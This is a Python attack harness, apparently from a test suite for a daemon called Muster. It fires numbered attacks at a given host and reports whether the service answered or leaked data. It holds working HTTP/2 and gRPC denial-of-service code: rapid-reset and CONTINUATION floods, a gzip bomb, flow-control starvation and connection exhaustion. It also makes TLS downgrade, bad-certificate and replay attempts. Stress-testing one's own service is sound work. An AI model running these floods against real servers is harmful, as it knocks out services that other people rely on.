"""What a host without the token does to a port of Muster's, one attack after the other, and what one that has it can do.

usage: attacker.py ATTACK HOST PORT FOLDER SOURCE...

The attack is made once from all of the addresses SOURCE in turn, so that no limit of one host holds it up, and then again
and again from the first of them. FOLDER holds what the attacker has got hold of (attacks.py puts it there). Each attack is bounded. When it
has been made it says so; while stdin is open it is made again, or what it has opened is held if it holds anything. Then it
prints what it did as JSON: how many connections it made, how many bytes it read, whether a call was answered, and whether
the run id was among what it read.
"""

import contextlib
import json
import os
import resource
import select
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable, Iterable
from pathlib import Path

RUN_ID = b"chaos"
LARGE_KEY = b"large"
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = 0, 1, 3, 4, 6, 8, 9
_END_STREAM, _END_HEADERS = 1, 4
_PATIENCE_S = 10.0
# What the daemon takes of a message before it reads it, and lets us know of in its settings.
_WINDOW = 16 << 10

METHODS = {
    "muster.rendezvous.v1.Rendezvous": ["Attend", "Describe", "List", "Watch", "ReadLog", "DeliverLog"],
    "muster.store.v1.Store": ["Get", "Set", "Add", "CompareSet", "Append", "Delete", "Check", "Wait", "Barrier",
                              "NumKeys", "MultiGet", "MultiSet"],
    "muster.tunnel.v1.Tunnel": ["Carry"],
}


class Attacker:
    def __init__(self, host: str, port: int, folder: Path, sources: list[str]):
        self.at = (host, port)
        self.sources = sources
        self.folder = folder
        self.connections = 0
        self.refused = 0
        self.read = b""  # The end of it.
        self.read_bytes = 0
        self.leaked = False
        self.answered = False
        self.held: list[socket.socket] = []

    def from_one(self) -> "Attacker":
        """What waits has places of each host: it is one host's that are looked at."""
        self.sources = self.sources[:1]
        return self

    def over(self) -> bool:
        """Nobody looks any more."""
        return bool(select.select([sys.stdin], [], [], 0)[0])

    def connect(self) -> socket.socket | None:
        # Each may take a second or two where the host is kept away.
        if len(self.sources) == 1 and self.over():
            return None
        try:
            source = self.sources[self.connections % len(self.sources)]
            connection = socket.create_connection(self.at, timeout=_PATIENCE_S, source_address=(source, 0))
        except OSError:
            self.refused += 1
            return None
        self.connections += 1
        return connection

    def drain(self, connection: socket.socket) -> None:
        """Reads until the other end closes, or says nothing more for a while."""
        with contextlib.suppress(OSError, ssl.SSLError):
            while chunk := connection.recv(1 << 16):
                self.hear(chunk)

    def hear(self, chunk: bytes) -> None:
        self.read = (self.read + chunk)[-(1 << 16):]
        self.read_bytes += len(chunk)
        self.leaked = self.leaked or RUN_ID in self.read
        # A frame of headers on a stream is an answer to a call.
        self.answered = self.answered or b"application/grpc" in self.read

    def say(self, *pieces: bytes, times: int = 1) -> None:
        """Connections that say this in plain text, and hear what they are answered."""
        for i in range(times):
            connection = self.connect()
            if connection is None:
                continue
            with connection, contextlib.suppress(OSError):
                connection.settimeout(1)
                connection.sendall(pieces[i % len(pieces)])
                connection.shutdown(socket.SHUT_WR)
                self.drain(connection)

    def hold(self, piece: bytes, times: int) -> None:
        """Connections that say this and stay."""
        for _ in range(times):
            connection = self.connect()
            if connection is None:
                continue
            with contextlib.suppress(OSError):
                connection.sendall(piece)
            self.held.append(connection)

    def context(self, identity: str = "") -> ssl.SSLContext:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        if identity:
            folder = self.folder / identity
            context.load_cert_chain(folder / "certificate.pem", folder / "key.pem")
        return context

    def owner(self, *flights: bytes, times: int = 1) -> None:
        """Connections of who has the token, which stay: each says all that, reading what it is answered between."""
        context = self.context("owner")
        for _ in range(times):
            plain = self.connect()
            if plain is None:
                continue
            plain.settimeout(_PATIENCE_S)
            with contextlib.suppress(OSError, ssl.SSLError):
                connection = context.wrap_socket(plain, server_hostname="muster")
                self.held.append(connection)
                for flight in flights:
                    self.send(connection, flight)

    def send(self, connection: ssl.SSLSocket, flight: bytes) -> bytes:
        """Sends all of it, and returns what comes meanwhile, as the other end may not read before that is taken."""
        connection.setblocking(False)
        rest = memoryview(flight)
        heard = b""
        while rest:
            with contextlib.suppress(ssl.SSLWantReadError, ssl.SSLWantWriteError):
                rest = rest[connection.send(rest[:1 << 14]):]
            with contextlib.suppress(ssl.SSLWantReadError, ssl.SSLWantWriteError):
                chunk = connection.recv(1 << 16)
                if not chunk:
                    break  # The other end has had enough of it.
                self.hear(chunk)
                heard += chunk
            select.select([connection], [connection], [], _PATIENCE_S)
        return heard

    def tls(self, after: bytes = b"", times: int = 1, identity: str = "", highest: ssl.TLSVersion | None = None) -> None:
        """TLS with that identity or none; `after` follows as soon as the handshake lets it."""
        context = self.context(identity)
        if highest is not None:
            context.set_ciphers("ALL:@SECLEVEL=0")
            context.minimum_version = ssl.TLSVersion.MINIMUM_SUPPORTED
            context.maximum_version = highest
        for _ in range(times):
            plain = self.connect()
            if plain is None:
                continue
            plain.settimeout(_PATIENCE_S)
            try:
                connection = context.wrap_socket(plain, server_hostname="muster")
            except (OSError, ssl.SSLError):
                plain.close()
                continue
            with connection, contextlib.suppress(OSError, ssl.SSLError):
                connection.settimeout(2)
                for start in range(0, len(after), 1 << 16):
                    connection.sendall(after[start:start + (1 << 16)])
                self.drain(connection)


def frame(kind: int, stream: int, payload: bytes = b"", flags: int = 0, length: int | None = None) -> bytes:
    """An HTTP/2 frame (RFC 9113, section 4.1); `length` is what it claims to have."""
    size = struct.pack(">I", len(payload) if length is None else length)[1:]
    return size + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _literal(name: bytes, value: bytes) -> bytes:
    """A header that is in no table (RFC 7541, 6.2.2), shorter than 127 bytes."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def call_headers(path: bytes, *more: bytes) -> bytes:
    return b"".join([
        _literal(b":method", b"POST"), _literal(b":scheme", b"https"), _literal(b":path", path),
        _literal(b":authority", b"muster"), _literal(b"te", b"trailers"),
        _literal(b"content-type", b"application/grpc"), *more,
    ])


def message(payload: bytes, length: int | None = None, flag: int = 0) -> bytes:
    return bytes([flag]) + struct.pack(">I", len(payload) if length is None else length) + payload


_ABOUT_JOB = b"\n" + bytes([len(RUN_ID)]) + RUN_ID


def call(stream: int, path: bytes, body: bytes | None = None, flags: int = _END_STREAM) -> bytes:
    return (frame(_HEADERS, stream, call_headers(path), _END_HEADERS)
            + frame(_DATA, stream, message(_ABOUT_JOB) if body is None else body, flags))


def opening(*frames: bytes) -> bytes:
    return _PREFACE + frame(_SETTINGS, 0) + b"".join(frames)


def every_rpc() -> bytes:
    paths = [f"/{service}/{method}".encode() for service, methods in METHODS.items() for method in methods]
    return opening(*(call(1 + 2 * i, path) for i, path in enumerate(paths)))


_LIST = b"/muster.rendezvous.v1.Rendezvous/List"


def _client_hello() -> bytes:
    """The beginning of a handshake (RFC 8446, 4.1.2), as Python's own ssl makes it."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    said = ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), said, server_hostname="muster").do_handshake()
    return said.read()


def _http2(name: str) -> bytes:
    """The attacks on HTTP/2 and gRPC: what follows a handshake that is not finished."""
    odd = range(1, 200_001, 2)
    headers = call_headers(_LIST)
    return {
        "B6": opening(frame(_HEADERS, 1, call_headers(_LIST, *(_literal(b"x%d" % i, b"v" * 100) for i in range(100))),
                            _END_HEADERS), frame(_HEADERS, 3, _literal(b"te", b"x"), _END_HEADERS)),
        "B7": opening(frame(_HEADERS, 1, headers), *[frame(_CONTINUATION, 1, b"\x1f" + b"\x80" * 16_000)] * 2000),
        "B8": opening(frame(_HEADERS, 1, b"\0\x7f\xff\xff\xff\xff\x0fabc", _END_HEADERS)),
        "B9": opening(*(frame(_HEADERS, i, headers, _END_HEADERS) + frame(_RST, i, struct.pack(">I", 8)) for i in odd)),
        "B10": opening(frame(_PING, 0, bytes(8)) * 10_000),
        "B11": opening(frame(_SETTINGS, 0, struct.pack(">HI", 4, 65_535)) * 10_000),
        "B12": opening(frame(_WINDOW_UPDATE, 0, struct.pack(">I", 0)),
                       frame(_WINDOW_UPDATE, 0, struct.pack(">I", 0x7FFFFFFF)) * 2),
        "B13": opening(frame(_HEADERS, 1, headers, _END_HEADERS), frame(_DATA, 1) * 100_000),
        "B14": opening(call(1, _LIST, message(b"", length=0xFFFFFFFF))),
        "B15": opening(frame(_HEADERS, 1, call_headers(_LIST, _literal(b"grpc-encoding", b"gzip")), _END_HEADERS),
                       frame(_DATA, 1, message(_bomb(), flag=1), _END_STREAM)),
        "B16": opening(call(1, _LIST, message(b"x", length=100))),
        "B17": opening(call(1, b"/no.such.Service/Method")),
        "B18": opening(frame(_HEADERS, 1, headers.replace(b"application/grpc", b"application/json"), _END_HEADERS)),
        "B19": opening(*(frame(_HEADERS, 1 + 2 * i, call_headers(_LIST, _literal(b"grpc-timeout", value)), _END_HEADERS)
                         for i, value in enumerate([b"0n", b"99999999H", b"x", b""]))),
        "B20": opening(frame(_HEADERS, 1, call_headers(_LIST, _literal(b"a-bin", b"!!"), _literal(b"b", b"\xff\0"))),
                       *[frame(_CONTINUATION, 1, _literal(b"k", b"v" * 120) * 100)] * 90),
    }[name]


def _bomb() -> bytes:
    """64 MiB of nothing in 64 KB: more would not fit into one frame with its headers."""
    import gzip

    return gzip.compress(bytes(8 << 20), 9)[:16_000]


def replay(attacker: Attacker) -> None:
    """What a client said to the daemon over a connection, again."""
    said = (attacker.folder / "capture").read_bytes()
    attacker.say(said, times=50)
    # As TLS would have it: its first flight, and the rest when the daemon has answered.
    for _ in range(20):
        connection = attacker.connect()
        if connection is None:
            continue
        with connection, contextlib.suppress(OSError):
            connection.settimeout(1)
            connection.sendall(said[:600])
            attacker.hear(connection.recv(1 << 16))
            connection.sendall(said[600:])
            attacker.drain(connection)


def _store_requests() -> list[bytes]:
    """c10d's TCPStore (TCPStoreBackend.hpp, QueryType): validate, ping, get, set, add of version 2.1 and later."""
    key = struct.pack("<Q", 3) + b"key"
    return [b"\0" + struct.pack("<I", 0x3C85F7CE), b"\x0d" + struct.pack("<I", 1), b"\x02" + key,
            b"\x01" + key + struct.pack("<Q", 1) + b"v", b"\x03" + key + struct.pack("<q", 1), os.urandom(64)]


def _wrong_versions(attacker: Attacker) -> None:
    for version in (ssl.TLSVersion.TLSv1, ssl.TLSVersion.TLSv1_1, ssl.TLSVersion.TLSv1_2):
        attacker.tls(every_rpc(), times=20, highest=version)


_SET, _GET = b"/muster.store.v1.Store/Set", b"/muster.store.v1.Store/Get"


def _opened_and_reset() -> bytes:
    headers = call_headers(_LIST)
    return opening(*(frame(_HEADERS, i, headers, _END_HEADERS) + frame(_RST, i, struct.pack(">I", 8))
                     for i in range(1, 200_001, 2)))


def _held_back(attacker: Attacker) -> None:
    """64 messages of 4 MiB over a connection, each but for its last byte, as fast as the other end makes room for them
    (RFC 9113, 5.2)."""
    streams = range(1, 129, 2)
    attacker.owner()
    connection = attacker.held[-1]
    assert isinstance(connection, ssl.SSLSocket)
    room = {0: 65_535 - 5 * len(streams)} | {i: _WINDOW - 5 for i in streams}
    left = {i: (4 << 20) - 1 for i in streams}
    until = time.monotonic() + _PATIENCE_S
    with contextlib.suppress(OSError, ssl.SSLError):
        unread = attacker.send(connection, opening(*(frame(_HEADERS, i, call_headers(_SET), _END_HEADERS)
                                                     + frame(_DATA, i, message(b"", length=4 << 20)) for i in streams)))
        while any(left.values()) and time.monotonic() < until:
            for i in streams:
                size = min(1 << 14, room[0], room[i], left[i])
                if size > 0:
                    unread += attacker.send(connection, frame(_DATA, i, bytes(size)))
                    room[0], room[i], left[i] = room[0] - size, room[i] - size, left[i] - size
            select.select([connection], [], [], 0.1)
            with contextlib.suppress(ssl.SSLWantReadError):
                while chunk := connection.recv(1 << 16):
                    unread += chunk
            while len(unread) >= 9 and len(unread) >= 9 + (size := int.from_bytes(unread[:3], "big")):
                kind, stream = unread[3], int.from_bytes(unread[5:9], "big")
                if kind == _WINDOW_UPDATE and stream in room:
                    room[stream] += int.from_bytes(unread[9:13], "big")
                if kind in (_RST, _HEADERS) and stream in left:
                    left[stream] = 0
                unread = unread[9 + size:]


def _not_taken() -> bytes:
    """256 large answers are asked for, and no room is made for them (RFC 9113, 6.5.2: SETTINGS_INITIAL_WINDOW_SIZE)."""
    body = message(_ABOUT_JOB + b"\x12" + bytes([len(LARGE_KEY)]) + LARGE_KEY)
    return _PREFACE + frame(_SETTINGS, 0, struct.pack(">HI", 4, 0)) + b"".join(
        call(i, _GET, body) for i in range(1, 512, 2))


def _refused_by_grpc() -> bytes:
    """Calls that gRPC refuses by itself, opened and reset."""
    wrong = [
        b"",
        _literal(b":scheme", b"https") + _literal(b":path", _LIST) + _literal(b":authority", b"muster"),
        call_headers(_LIST).replace(_literal(b":authority", b"muster"), b""),
    ]
    reset = struct.pack(">I", 8)
    return opening(*(frame(_HEADERS, 1 + 2 * i, wrong[i % 3], _END_HEADERS) + frame(_RST, 1 + 2 * i, reset)
                     for i in range(200_000)))


_HTTP2 = ("B6", "B7", "B8", "B9", "B10", "B11", "B12", "B13", "B14", "B15", "B16", "B17", "B18", "B19", "B20")


def _every_http2_attack(attacker: Attacker) -> None:
    for name in _HTTP2:
        if name != "B9":  # T1 is that.
            attacker.owner(_http2(name))


def _of_owners() -> dict[str, Callable[[Attacker], None]]:
    return {
        "T1": lambda a: a.owner(_opened_and_reset()),
        "T2": lambda a: a.owner(opening(*(frame(_HEADERS, i, call_headers(_SET), _END_HEADERS) for i in range(1, 256, 2))),
                                times=160),
        "T3": lambda a: [_held_back(a) for _ in range(2)],
        "T4": lambda a: a.owner(_not_taken(), times=20),
        "T5": lambda a: a.owner(opening(*(call(i, _LIST) for i in range(1, 10_001, 2))), times=5),
        "T7": lambda a: a.owner(_refused_by_grpc(), times=4),
        # All that is wrong with HTTP/2 and gRPC, from one who is let in.
        "T6": _every_http2_attack,
    }


def _attacks() -> dict[str, Callable[[Attacker], None]]:
    attacks: dict[str, Callable[[Attacker], None]] = {
        "B1": lambda a: a.say(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", b"POST /job HTTP/1.0\r\n\r\n", times=200),
        "B2": lambda a: a.say(_client_hello(), times=200),
        "B3": lambda a: a.say(*(os.urandom(4096) for _ in range(16)), times=200),
        "B4": lambda a: a.hold(_PREFACE, 1000),
        "B4 TLS": lambda a: a.from_one().hold(_client_hello(), 4000),
        "B4 silent": lambda a: a.from_one().hold(b"", 4000),
        "B5": lambda a: a.say(b"PRI * HTTP/3.0\r\n\r\nSM\r\n\r\n", b"\x16", b"\x16\x03", b"P", times=200),
        "B21": lambda a: a.tls(every_rpc(), times=200),
        "control": lambda a: a.tls(opening(call(1, _LIST)), identity="owner"),
        "B23": lambda a: a.tls(every_rpc(), times=50, identity="expired"),
        "B24": lambda a: a.tls(every_rpc(), times=50, identity="early"),
        "B25": lambda a: a.tls(every_rpc(), times=50, identity="foreign"),
        "B28": lambda a: a.tls(every_rpc(), times=20, identity="long"),
        "B29": _wrong_versions,
        "B39": lambda a: a.say(*(b"DEAD " + os.urandom(16).hex().encode() + b"\n" for _ in range(64)),
                               *(b"K" + os.urandom(32) for _ in range(64)), times=200),
        "B40": replay,
        "store": lambda a: a.say(*_store_requests(), times=100),
    }
    for name in _HTTP2:
        attacks[name] = lambda a, name=name: a.tls(_http2(name), times=10)
    return attacks | _of_owners()


def main(arguments: Iterable[str]) -> None:
    name, host, port, folder, *sources = arguments
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    attacker = Attacker(host, int(port), Path(folder), sources)
    attack = _attacks()[name]
    attack(attacker)
    print("made", flush=True)
    attacker.sources = sources[:1]
    # Again and again while somebody looks what comes of it, unless its connections are still there.
    while not attacker.held and not attacker.over():
        attack(attacker)
    sys.stdin.read()
    print(json.dumps({"connections": attacker.connections, "refused": attacker.refused, "read": attacker.read_bytes,
                      "answered": attacker.answered, "leaked": attacker.leaked}), flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
